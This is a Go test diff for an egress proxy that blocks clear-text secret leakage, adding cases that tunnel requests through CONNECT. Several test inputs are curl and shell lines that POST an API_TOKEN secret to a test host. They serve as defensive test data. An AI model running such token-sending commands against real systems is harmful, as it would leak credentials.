@@ -689,6 +689,12 @@ func TestEgressProxyRefusesSecretsInClearText(t *testing.T) {
 		{"body", `B="token=$API_TOKEN"; ` + req(`POST http://allowed.test/c`, ``, ``), "403"},
 		{"body split", `B="a=${API_TOKEN:0:13}"; ` + req(`POST http://allowed.test/c`, ``, ``), "403"},
 		{"no secret", `B="hello"; ` + req(`POST http://allowed.test/ok`, ``, ``), "200"},
+		// curl -p sends the same request through a CONNECT tunnel: the
+		// proxy sees no TLS and closes it (curl: empty reply, 52).
+		{"plain HTTP through a tunnel", `curl -s -p -d "t=$API_TOKEN" http://allowed.test/c; echo "exit $?"`, "exit 52"},
+		// A TLS handshake crosses (the test server speaks plain HTTP, so
+		// the handshake then fails: 35).
+		{"TLS through a tunnel", `curl -s -k https://allowed.test/tls; echo "exit $?"`, "exit 35"},
 	} {
 		t.Run(tt.name, func(t *testing.T) {
 			if _, out := sh(t, sb, tt.script); !strings.Contains(out, tt.want) {
@@ -705,12 +711,12 @@ func TestEgressProxyRefusesSecretsInClearText(t *testing.T) {
 	for _, d := range ds {
 		if !d.Allowed {
 			refused++
-			if !strings.Contains(d.Reason, "carries secret API_TOKEN") || !strings.Contains(d.Reason, "plain HTTP") {
+			if !strings.Contains(d.Reason, "carries secret API_TOKEN") && !strings.Contains(d.Reason, "does not start with TLS") || !strings.Contains(d.Reason, "plain HTTP") {
 				t.Errorf("refusal reason %q", d.Reason)
 			}
 		}
 	}
-	if refused != 4 {
-		t.Errorf("%d refusals, want 4: %+v", refused, ds)
+	if refused != 5 {
+		t.Errorf("%d refusals, want 5: %+v", refused, ds)
 	}
 }
